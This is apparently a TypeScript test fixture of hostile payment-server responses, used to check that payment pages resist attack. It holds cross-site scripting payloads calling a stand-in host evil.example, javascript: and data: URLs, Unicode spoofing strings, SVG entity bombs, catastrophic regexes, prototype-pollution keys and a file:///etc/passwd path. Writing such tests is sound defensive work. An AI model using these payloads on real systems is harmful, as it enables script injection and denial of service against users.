/**
 * Answers of a payment system that means harm, or was talked into it. Each is sent by a real server; every page that shows
 * answers is tried with all of them. What runs leaves `hacked` at the page, what asks goes to `evil.example`.
 */
export const EVIL = 'https://evil.example'

export type HostileAnswer = { readonly name: string } & (
  | {
      /** Members of the answer that a transfer is made of, over a harmless card. */
      readonly transfer: Readonly<Record<string, unknown>>
    }
  | {
      /** Where the page of a payment is said to be. */
      readonly page: string
      readonly params?: unknown
    }
  | {
      /** Where the payment form is said to be. */
      readonly form: Readonly<Record<string, unknown>>
    }
  | {
      /** JSON text of `data` of a catalogue; beside it the account has one harmless service. */
      readonly services: string
      readonly methods?: string
      readonly account?: Readonly<Record<string, unknown>>
    }
)

const RUN = `window.hacked=1;fetch('${EVIL}/run')`
const TAG = `"'><img src="${EVIL}/img" onerror="${RUN}"><script src="${EVIL}/js"></script><style>*{background:url(${EVIL}/css)}</style>`
const TURNED = '\u202E\u2066000.1\u0000\r\n\u2069 USD'
const MEGABYTE = 1024 * 1024
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${inside}<path d="M0 0h9v9H0z"/></svg>`

/** Nine times nine times nine … copies of one line. */
const MULTIPLIED = svg(
  `<defs><g id="u0"><path d="M0 0h1"/></g>${Array.from(
    { length: 9 },
    (_, level) => `<g id="u${level + 1}">${`<use xlink:href="#u${level}"/>`.repeat(9)}</g>`,
  ).join('')}</defs><use xlink:href="#u9"/>`,
)

const ADDRESSES: Readonly<Record<string, string>> = {
  script: `javascript:${RUN}`,
  'script in disguise': `java\tscript:${RUN}`,
  'a page of its own making': `data:text/html,<script>${RUN}</script>`,
  'another host in disguise': `https://pay.example\\@evil.example/`,
  'a page without https': 'http://evil.example/',
  'a file': 'file:///etc/passwd',
  'any app': 'intent://evil#Intent;scheme=http;end',
}

export const HARMLESS: HostileAnswer = { name: 'a harmless one', transfer: {} }
export const HARMLESS_CATALOGUE: HostileAnswer = { name: 'a harmless catalogue', services: '[]' }

const service = (code: string, more: Readonly<Record<string, unknown>> = {}) => ({
  code,
  method: code,
  flow: 'hpp',
  fields: [],
  ...more,
})

export const HOSTILE_ANSWERS: readonly HostileAnswer[] = [
  {
    name: 'markup in every row',
    transfer: { card: TAG, card_holder: TAG, bank_name: TAG, country: TAG, verification_code: TAG },
  },
  { name: 'rows turned round', transfer: { card_holder: TURNED, bank_name: '\u2067Bank\u061C', country: '\u0000' } },
  { name: 'a holder without an end', transfer: { card_holder: 'A'.repeat(MEGABYTE), bank_name: 'Я'.repeat(600) } },
  { name: 'a heap of marks', transfer: { card_holder: `A${'\u0301'.repeat(400)}`, bank_name: '\u0489'.repeat(500) } },
  {
    name: 'templates',
    transfer: { card_holder: '{{constructor.constructor("hacked=1")()}} ${hacked=1}', bank_name: '</script>' },
  },
  { name: 'other types than text', transfer: { card_holder: { toString: 1 }, bank_name: [TAG], country: true } },
  {
    name: 'a picture that runs',
    transfer: { qr: svg(`<script>${RUN}</script><image href="${EVIL}/svg"/>`, `onload="${RUN}"`) },
  },
  {
    name: 'a picture with a page in it',
    transfer: {
      qr: svg(
        `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${EVIL}/f"/></body></foreignObject>`,
      ),
    },
  },
  { name: 'a picture that multiplies', transfer: { qr: MULTIPLIED } },
  {
    name: 'a picture of entities',
    transfer: {
      qr: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "${'&a;'.repeat(500)}">]>${svg('<title>&b;</title>')}`,
    },
  },
  {
    name: 'a picture that blurs',
    transfer: {
      qr: svg(
        '<filter id="f" width="9999" height="9999"><feGaussianBlur stdDeviation="900"/></filter><path filter="url(#f)" d="M0 0h9"/>',
      ),
    },
  },
  { name: 'a code without an end', transfer: { qr_link: `https://pay.example/${'a'.repeat(2850)}` } },
  ...Object.entries(ADDRESSES).flatMap(([name, address]): HostileAnswer[] => [
    { name: `${name} as a link`, transfer: { pay_link: address, qr_link: address } },
    { name: `${name} as a page`, page: address },
    { name: `${name} as a form`, form: { redirect_url: address } },
  ]),
  { name: 'a form by another path', form: { key: '../../../../evil?x=' } },
  { name: 'fields that are a list without an end', page: 'ftp://evil.example', params: { [TAG]: TAG } },
  {
    name: 'markup in a catalogue',
    services: JSON.stringify([
      service('tag', {
        fields: [
          { key: TAG, label: TAG },
          { key: 'a', label: TAG, hint: TAG, example: TAG },
        ],
      }),
    ]),
    methods: JSON.stringify([{ code: 'tag', name: TAG, icon: `javascript:${RUN}`, category: TAG }]),
    account: { name: TAG, website: `javascript:${RUN}`, icon: `${EVIL}/icon` },
  },
  {
    name: 'a catalogue turned round',
    services: JSON.stringify([service('bidi', { fields: [{ key: 'a', label: TURNED }] })]),
    methods: JSON.stringify([{ code: 'bidi', name: { en: TURNED, ru: '\u202E' } }]),
  },
  {
    name: 'a catalogue of slow patterns',
    services: JSON.stringify(
      Array.from({ length: 300 }, (_, index) =>
        service(`slow${index}`, {
          fields: [{ key: 'a', regexp: `^(${'a?'.repeat(40)}|${'b+'.repeat(20)}${index})+$` }],
        }),
      ),
    ),
  },
  { name: 'a catalogue that nests', services: `[${'['.repeat(400_000)}${']'.repeat(400_000)}]` },
  {
    name: 'a catalogue of long texts',
    services: JSON.stringify([service('long')]),
    methods: JSON.stringify([{ code: 'long', name: 'x'.repeat(MEGABYTE), category: 'x'.repeat(1000) }]),
    account: { name: 'x'.repeat(300_000) },
  },
  {
    name: 'a catalogue of the names of objects',
    services: '{"__proto__":{"code":"p"},"constructor":1,"toString":null}',
  },
  { name: 'a catalogue of other things', services: '["none",1,null,[],{"code":[]},true]' },
]
